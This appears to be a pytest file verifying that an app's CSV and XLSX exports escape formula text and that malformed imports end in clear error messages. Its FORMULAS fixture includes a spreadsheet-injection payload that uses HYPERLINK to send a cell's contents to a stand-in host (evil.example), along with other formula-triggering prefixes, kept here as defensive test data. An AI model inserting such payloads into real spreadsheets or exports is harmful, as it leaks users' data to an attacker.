"""Hostile files never hurt (issue 12, items 4 and 6): exports never carry a live formula,
and an import of a file that is too big, badly encoded or badly headed ends in a message
naming what is wrong (and the row or column), never a traceback."""
from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from click.testing import CliRunner

from engine.cli import main
from engine.io import readers
from tests.conftest import FIXTURES, make_engine

APP = FIXTURES / "io"
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1)",
            "\t=1+1", "\r=1+1", "'=already quoted", "''=twice"]


@pytest.fixture
def app(database_url, clock):
    eng = make_engine(APP, database_url, clock)
    eng.add_user("root", ["clerk"], is_admin=True, password="root-pass-123")
    yield eng
    eng.close()


def export(eng, form: str, fmt: str) -> bytes:
    out = io.BytesIO()
    eng.export(eng.user("root"), form, fmt, out)
    return out.getvalue()


def subjects(eng) -> list[str]:
    return [r.data["subject"] for r in eng.list(eng.user("root"), "entry", order="id").items]


def run(*args) -> tuple[int, str]:
    done = CliRunner().invoke(main, list(args))
    return done.exit_code, done.output + (str(done.exception) if done.exit_code and
                                          not isinstance(done.exception, SystemExit) else "")


# --- item 4: exports carry no live formula --------------------------------------------


def test_csv_export_quotes_formula_text_but_not_numbers(app):
    root = app.user("root")
    for text in FORMULAS:
        app.create(root, "entry", {"subject": text, "count": -5, "amount": "-7.50"})
    rows = list(csv.reader(io.StringIO(export(app, "entry", "csv").decode("utf-8-sig"))))
    header = rows[0]
    col, count, amount = (header.index(h) for h in ("Subject", "Count", "Amount"))
    for row, text in zip(rows[1:], FORMULAS):
        assert row[col] == "'" + text  # shown as text by every spreadsheet
        assert (row[count], row[amount]) == ("-5", "-7.50")  # numbers stay numbers


def as_xlsx_keeps(text: str) -> set[str]:
    """What an XLSX cell gives back for `text`: openpyxl's XML writer decides whether a CR
    survives (with lxml it is escaped and kept; the standard library's writer turns it into
    a line break), so either is the same text to a spreadsheet."""
    return {text, text.replace("\r", "\n")}


def test_xlsx_export_writes_text_as_string_cells_never_formulas(app):
    root = app.user("root")
    for text in FORMULAS:
        app.create(root, "entry", {"subject": text, "count": -5})
    ws = openpyxl.load_workbook(io.BytesIO(export(app, "entry", "xlsx")))["entry"]
    header = [c.value for c in ws[1]]
    col, count = header.index("Subject"), header.index("Count")
    cells = [(row[col].value, row[col].data_type, row[count].value, row[count].data_type)
             for row in ws.iter_rows(min_row=2)]
    assert len(cells) == len(FORMULAS)
    for (value, kind, count_value, count_kind), text in zip(cells, FORMULAS):
        assert value in as_xlsx_keeps(text) and kind == "s"  # text, never a formula
        assert (count_value, count_kind) == (-5, "n")


def test_formula_text_round_trips_through_csv_and_xlsx(app):
    root = app.user("root")
    texts = FORMULAS + ["-5", "it's fine", "'plain quote"]
    for text in texts:
        app.create(root, "entry", {"subject": text})
    for fmt in ("csv", "xlsx"):
        data = export(app, "entry", fmt)
        n = len(subjects(app))
        result = app.import_file(root, "entry", io.BytesIO(data), format=fmt)
        assert result.ok, [str(e) for e in result.errors]
        back = subjects(app)[n:]
        assert len(back) == n, fmt
        for got, text in zip(back, subjects(app)[:n]):
            assert got == text if fmt == "csv" else got in as_xlsx_keeps(text), fmt
    assert subjects(app)[: len(texts)] == texts


def test_import_keeps_a_leading_tab_before_a_formula_character(app):
    root = app.user("root")
    data = '\ufeffsubject\n"\t=1+1"\n"  spaced  "\n'.encode()
    result = app.import_file(root, "entry", io.BytesIO(data), format="csv")
    assert result.ok, [str(e) for e in result.errors]
    assert subjects(app) == ["\t=1+1", "spaced"]


def test_loom_export_csv_neutralises_and_loom_import_reads_it_back(app, database_url, tmp_path):
    app.create(app.user("root"), "entry", {"subject": "=1+1"})
    app.close()
    out = tmp_path / "entry.csv"
    common = ["--definitions", str(APP), "--database", database_url]
    code, output = run("export", "entry", "-o", str(out), "--user", "root", *common)
    assert code == 0, output
    text = out.read_text(encoding="utf-8-sig")
    assert "'=1+1" in text and "\n=1" not in text
    code, output = run("import", "entry", str(out), "--user", "root", *common)
    assert code == 0, output
    eng = make_engine(APP, database_url, None)
    try:
        assert subjects(eng) == ["=1+1", "=1+1"]
    finally:
        eng.close()


# --- item 6: import errors are messages ---------------------------------------------------


def test_a_cell_over_the_limit_names_its_row(app):
    data = f"subject,notes\nok,fine\nbig,{'x' * (readers.MAX_CELL + 1)}\n".encode()
    with pytest.raises(readers.UnreadableFile, match=r"row 3: a cell is longer than 131,072"):
        app.import_file(app.user("root"), "entry", io.BytesIO(data), format="csv")
    assert subjects(app) == []


def test_invalid_utf8_that_is_not_gb18030_is_a_clean_error(app):
    data = b"subject\n\x81\x20broken\n"  # 0x81 0x20 is neither UTF-8 nor GB18030
    with pytest.raises(readers.UnreadableFile, match="cannot read the file's encoding"):
        app.import_file(app.user("root"), "entry", io.BytesIO(data), format="csv")


def test_utf8_with_and_without_bom_and_gb18030_all_read(app):
    root = app.user("root")
    for raw in ("subject\n中文一\n".encode("utf-8"), "subject\n中文二\n".encode("utf-8-sig"),
                "subject\n中文三\n".encode("gb18030")):
        result = app.import_file(root, "entry", io.BytesIO(raw), format="csv")
        assert result.ok, [str(e) for e in result.errors]
    assert subjects(app) == ["中文一", "中文二", "中文三"]


def test_duplicate_and_unknown_headers_are_named_with_their_columns(app):
    data = "subject,Subject,colour,mood\nA,B,red,happy\n".encode()
    result = app.import_file(app.user("root"), "entry", io.BytesIO(data), format="csv")
    messages = [e.message for e in result.errors]
    assert not result.ok and all(e.row == 1 for e in result.errors)
    assert any("column B (2) 'Subject' repeats column A (1) 'subject'" in m for m in messages)
    assert any(m.startswith("column D (4): unknown column 'mood'") for m in messages)
    assert subjects(app) == []


def test_duplicate_line_columns_are_named_too(app):
    data = "subject,lines.qty,lines.qty\nA,1,2\n".encode()
    result = app.import_file(app.user("root"), "entry", io.BytesIO(data), format="csv")
    assert any("column C (3) 'qty' repeats column B (2) 'qty'" in e.message
               for e in result.errors), [str(e) for e in result.errors]


def test_too_many_rows_are_refused_before_anything_is_written(app):
    data = ("subject\n" + "x\n" * (readers.MAX_ROWS + 1)).encode()
    with pytest.raises(readers.UnreadableFile, match="more than 200,000 rows"):
        app.import_file(app.user("root"), "entry", io.BytesIO(data), format="csv", dry_run=True)


def test_cli_import_of_hostile_files_exits_with_a_message(app, database_url, tmp_path):
    app.close()
    common = ["--definitions", str(APP), "--database", database_url]
    cases = {"big.csv": f"subject\n{'y' * (readers.MAX_CELL + 5)}\n".encode(),
             "enc.csv": b"subject\n\x81\x20\n",
             "dup.csv": b"subject,subject\na,b\n"}
    expect = {"big.csv": "row 2: a cell is longer than", "enc.csv": "cannot read the file's encoding",
              "dup.csv": "repeats column A (1)"}
    for name, raw in cases.items():
        path = tmp_path / name
        path.write_bytes(raw)
        code, output = run("import", "entry", str(path), *common)
        assert code == 1 and expect[name] in output and "Traceback" not in output, output
